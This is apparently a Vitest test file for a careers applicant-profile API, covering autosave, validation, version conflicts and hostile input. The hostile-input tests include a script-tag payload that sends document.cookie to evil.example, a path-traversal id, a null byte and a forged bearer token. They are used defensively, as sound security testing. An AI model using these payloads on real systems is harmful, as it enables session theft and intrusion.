import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { FULL_PROFILE, inDays, referee, registerApplicant } from './careers-helpers.js';

let t: TestApp;
let amina: Awaited<ReturnType<typeof registerApplicant>>;
let brian: Awaited<ReturnType<typeof registerApplicant>>;

type Headers = Record<string, string>;
const get = (headers: Headers) => t.app.inject({ url: '/api/careers/profile', headers });
/** PUT exactly `payload` (the version is the caller's business). */
const putRaw = (headers: Headers, payload: unknown) => t.app.inject({ method: 'PUT', url: '/api/careers/profile', headers, payload: payload as object });
/** Saves `payload` on top of the version stored now, as a page that has just read it does. */
const put = async (headers: Headers, payload: object) => putRaw(headers, { ...payload, version: (await get(headers)).json().version });

beforeAll(async () => {
  t = await createTestApp();
  amina = await registerApplicant(t.app, 'amina');
  brian = await registerApplicant(t.app, 'brian');
});
afterAll(async () => t?.close());

describe('applicant details', () => {
  it('starts empty and needs a token', async () => {
    expect((await t.app.inject({ url: '/api/careers/profile' })).statusCode).toBe(401);
    const res = await get(amina.headers);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ updatedAt: null, version: 0, completeness: { complete: false, percent: 0 }, profile: { firstName: '', education: [] } });
  });

  it('autosaves the whole document and returns it unchanged after a reload', async () => {
    const saved = await put(amina.headers, FULL_PROFILE);
    expect(saved.statusCode, saved.body).toBe(200);
    expect(saved.json().profile).toEqual(FULL_PROFILE);
    expect(saved.json().updatedAt).toEqual(expect.any(String));
    expect(saved.json().version).toBe(1);
    const reloaded = (await get(amina.headers)).json();
    expect(reloaded.profile).toEqual(FULL_PROFILE);
    expect(reloaded.version).toBe(1);
    expect(reloaded.completeness).toEqual({
      personal: true,
      registration: true,
      education: true,
      employment: true,
      referees: true,
      personalStatement: true,
      complete: true,
      percent: 100,
    });
  });

  it('saves a half-filled form and says which sections are complete', async () => {
    const res = await put(brian.headers, { firstName: 'Brian ', referees: [referee('Only One'), { name: 'Half', email: 'half@' }], education: [{}] });
    expect(res.statusCode).toBe(200);
    const { profile, completeness } = res.json();
    expect(profile.firstName).toBe('Brian '); // kept as typed: the autosave never rewrites what the user is typing
    expect(profile.lastName).toBe('');
    expect(profile.referees).toHaveLength(2);
    expect(profile.referees[0].id).toMatch(/^[A-Za-z0-9_-]+$/);
    expect(profile.education[0]).toMatchObject({ institution: '', startDate: null, endDate: null });
    expect(completeness).toMatchObject({ personal: false, referees: false, education: false, complete: false, percent: 0 });
    const two = await put(brian.headers, { referees: [referee('One Referee'), referee('Two Referee')], personalStatement: 'Too short.' });
    expect(two.json().completeness).toMatchObject({ referees: true, personalStatement: false, percent: 17 });
    // The other applicant's details are untouched.
    expect((await get(amina.headers)).json().profile).toEqual(FULL_PROFILE);
  });

  it('refuses impossible dates with a message that names the entry', async () => {
    const young = await put(brian.headers, { dateOfBirth: inDays(-365 * 10) });
    expect(young.statusCode).toBe(400);
    expect(young.json().message).toContain('between 16 and 100 years old');
    expect((await put(brian.headers, { dateOfBirth: '1900-01-01' })).statusCode).toBe(400);
    expect((await put(brian.headers, { dateOfBirth: inDays(30) })).statusCode).toBe(400);
    const backwards = await put(brian.headers, {
      employment: [
        { employer: 'A', startDate: '2020-01-01', endDate: '2021-01-01' },
        { employer: 'B', startDate: '2019-05-01', endDate: '2018-05-01' },
      ],
    });
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().message).toBe('Employment history, entry 2: the end date is before the start date.');
    const education = await put(brian.headers, { education: [{ startDate: '2015-01-01', endDate: '2014-01-01' }] });
    expect(education.json().message).toContain('Education, entry 1');
    expect((await get(brian.headers)).json().profile.employment).toEqual([]); // nothing of a refused save was kept
  });
});

describe('hostile input on the applicant details', () => {
  it('refuses wrong types, huge strings, too many entries and control characters with 400', async () => {
    const bad: unknown[] = [
      { firstName: 42 },
      { firstName: 'x'.repeat(101) },
      { personalStatement: 'x'.repeat(4001) },
      { phone: 'call me maybe' },
      { dateOfBirth: '17/04/1992' },
      { idType: 'driving-licence' },
      { address: 'Kisumu' },
      { address: { city: ['Kisumu'] } },
      { education: 'University' },
      { education: Array.from({ length: 21 }, () => ({})) },
      { employment: [{ duties: 'x'.repeat(2001) }] },
      { referees: Array.from({ length: 6 }, () => ({})) },
      { referees: [{ id: '../../etc' }] },
      { lastName: 'Otieno\u0000' },
      { registration: { expiryDate: 'never' } },
      [FULL_PROFILE],
    ];
    for (const payload of bad) {
      const res = Array.isArray(payload) ? await putRaw(brian.headers, payload) : await put(brian.headers, payload as object);
      expect(res.statusCode, JSON.stringify(payload).slice(0, 80)).toBe(400);
      expect(res.json()).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    }
  });

  it('keeps markup as plain text and ignores forged owner fields', async () => {
    const script = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
    const res = await put(brian.headers, { firstName: script, personalStatement: `${script}\n`.repeat(3), userId: amina.id, user_id: amina.id });
    expect(res.statusCode).toBe(200);
    expect(res.json().profile.firstName).toBe(script);
    expect(res.json().profile).not.toHaveProperty('userId');
    expect((await get(brian.headers)).json().profile.firstName).toBe(script);
    expect((await get(amina.headers)).json().profile).toEqual(FULL_PROFILE);
  });

  it('refuses a token forged for another account', async () => {
    const forged = { authorization: `Bearer ${t.app.jwt.sign({ sub: amina.id, role: 'client', ver: 0 }).slice(0, -4)}AAAA` };
    expect((await putRaw(forged, { firstName: 'Mallory', version: 1 })).statusCode).toBe(401);
    expect((await get(amina.headers)).json().profile.firstName).toBe('Amina');
  });
});

describe('two windows saving the same details (version)', () => {
  const STALE = 'Your details were changed in another tab or window. Reload to see the latest version.';
  let carol: Awaited<ReturnType<typeof registerApplicant>>;

  beforeAll(async () => {
    carol = await registerApplicant(t.app, 'carol');
  });

  const expectStale = (res: Awaited<ReturnType<typeof putRaw>>) => {
    expect(res.statusCode, res.body).toBe(409);
    expect(res.json()).toEqual({ statusCode: 409, error: 'Conflict', message: STALE, code: 'version_conflict' });
  };

  it('the first save sends version 0; a second "first save" is refused and changes nothing', async () => {
    const first = await putRaw(carol.headers, { firstName: 'Carol', version: 0 });
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json()).toMatchObject({ version: 1, profile: { firstName: 'Carol' } });

    // Another window opened before that save still believes nothing is saved.
    expectStale(await putRaw(carol.headers, { firstName: 'Other window', version: 0 }));
    expect((await get(carol.headers)).json()).toMatchObject({ version: 1, profile: { firstName: 'Carol' } });
  });

  it('a save on top of an older (or unknown) version gets 409 and the stored details stay as they were', async () => {
    const read = (await get(carol.headers)).json();
    const laptop = await putRaw(carol.headers, { ...read.profile, lastName: 'Laptop', version: read.version });
    expect(laptop.statusCode).toBe(200);
    expect(laptop.json().version).toBe(read.version + 1);
    const stored = (await get(carol.headers)).json();

    // The phone read the same version before the laptop saved.
    expectStale(await putRaw(carol.headers, { ...read.profile, lastName: 'Phone', version: read.version }));
    // A version the server never gave out is no better.
    expectStale(await putRaw(carol.headers, { ...read.profile, lastName: 'Future', version: stored.version + 5 }));
    expect((await get(carol.headers)).json()).toEqual(stored);

    // After reading again, the phone saves on top of the laptop's version.
    const phone = await putRaw(carol.headers, { ...stored.profile, lastName: 'Phone', version: stored.version });
    expect(phone.statusCode).toBe(200);
    expect(phone.json()).toMatchObject({ version: stored.version + 1, profile: { lastName: 'Phone' } });
  });

  it('of concurrent saves of one version exactly one wins, and it is the one kept', async () => {
    const { version } = (await get(carol.headers)).json();
    const names = ['One', 'Two', 'Three', 'Four', 'Five', 'Six'];
    const answers = await Promise.all(names.map((firstName) => putRaw(carol.headers, { firstName, version })));
    const won = answers.filter((r) => r.statusCode === 200);
    expect(won).toHaveLength(1);
    for (const lost of answers.filter((r) => r.statusCode !== 200)) expectStale(lost);
    const stored = (await get(carol.headers)).json();
    expect(stored.version).toBe(version + 1);
    expect(stored.profile.firstName).toBe(won[0]!.json().profile.firstName);
  });

  it('of concurrent first saves exactly one wins', async () => {
    const dan = await registerApplicant(t.app, 'dan');
    const answers = await Promise.all(['A', 'B', 'C', 'D'].map((firstName) => putRaw(dan.headers, { firstName, version: 0 })));
    expect(answers.filter((r) => r.statusCode === 200)).toHaveLength(1);
    expect(answers.filter((r) => r.statusCode === 409)).toHaveLength(3);
    expect((await get(dan.headers)).json().version).toBe(1);
  });

  it('one applicant\'s saves do not move another\'s version', async () => {
    const before = (await get(amina.headers)).json().version;
    expect((await put(carol.headers, { firstName: 'Carol again' })).statusCode).toBe(200);
    expect((await get(amina.headers)).json().version).toBe(before);
  });

  it('refuses hostile versions with 400 (never 500) and keeps the stored details', async () => {
    const stored = (await get(carol.headers)).json();
    const hostile: unknown[] = [-1, -2_147_483_648, 2_147_483_648, 1e20, Number.MAX_SAFE_INTEGER, 1.5, stored.version + 0.5, '1', String(stored.version), '', null, true, [stored.version], { n: 1 }];
    for (const version of hostile) {
      const res = await putRaw(carol.headers, { firstName: 'Mallory', version });
      expect(res.statusCode, JSON.stringify(version)).toBe(400);
      expect(res.json()).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    }
    const missing = await putRaw(carol.headers, { firstName: 'Mallory' });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().message).toContain('version');
    // Numbers JSON can carry but JavaScript cannot hold exactly.
    for (const raw of ['99999999999999999999999999', '1e400', '-0.0000001']) {
      const res = await t.app.inject({
        method: 'PUT',
        url: '/api/careers/profile',
        headers: { ...carol.headers, 'content-type': 'application/json' },
        payload: `{"firstName":"Mallory","version":${raw}}`,
      });
      expect(res.statusCode, raw).toBe(400);
    }
    expect((await get(carol.headers)).json()).toEqual(stored);
  });
});
